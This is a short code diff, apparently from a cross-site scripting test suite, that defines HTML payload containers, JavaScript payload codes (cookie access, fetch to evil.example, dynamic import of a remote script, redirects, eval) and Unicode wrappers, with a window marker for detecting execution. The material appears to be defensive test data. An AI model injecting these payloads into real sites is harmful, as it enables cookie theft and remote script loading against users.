@@ -20,7 +20,16 @@ CONTAINERS = (
     "{{% debug %}}<b onclick={0}>",
     "<!--><img src=x onerror={0}>-->",
 )
-CODES = ("alert(1)", "fetch('//evil.example')", "document.cookie", "top.location='//e.example'", "eval(name)", "import('//e.example/x.js')")
+RAN = "kanafRan"
+"""What a script of these sets on the window when it runs; the others open a dialogue or call a foreign host."""
+CODES = (
+    "alert(1)",
+    "fetch('//evil.example')",
+    f"window.{RAN}=document.cookie",
+    "top.location='//e.example'",
+    f"eval('window.{RAN}=1')",
+    "import('//e.example/x.js')",
+)
 AROUND = ("{0}", "Texte {0}", "{0} نص", "\u202e{0}", "ﬁn {0}", "  {0}  ", "{0}\u200b", "é{0}")
 
 
